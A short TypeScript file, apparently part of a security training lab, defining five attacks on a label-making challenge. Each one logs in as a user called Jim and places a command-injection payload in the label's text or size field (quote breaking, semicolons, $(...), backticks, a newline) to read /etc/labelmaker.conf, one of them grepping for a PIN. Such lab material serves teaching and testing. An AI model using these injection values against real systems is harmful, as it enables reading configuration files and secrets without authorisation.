import type { Attack } from '#lab'
import { logInAsJim, steal } from './steps.ts'

const attack = (name: string, label: { text: string; size?: string }): Attack => ({
  challenge: 'labelCommandChallenge',
  name,
  run: async (tools) => steal(tools, await logInAsJim(tools), label),
})

export const attacks: Attack[] = [
  attack('a quote and another command', { text: '"; cat /etc/labelmaker.conf; echo "' }),
  attack('another command behind the size', { text: 'x', size: 'M; cat /etc/labelmaker.conf #' }),
  attack('a command within the quotes', { text: 'PIN: $(grep pin /etc/labelmaker.conf)' }),
  attack('a command between backticks', { text: '`tail /etc/labelmaker.conf`' }),
  attack('a line of its own', { text: '"\nhead /etc/labelmaker.conf\necho "' }),
]
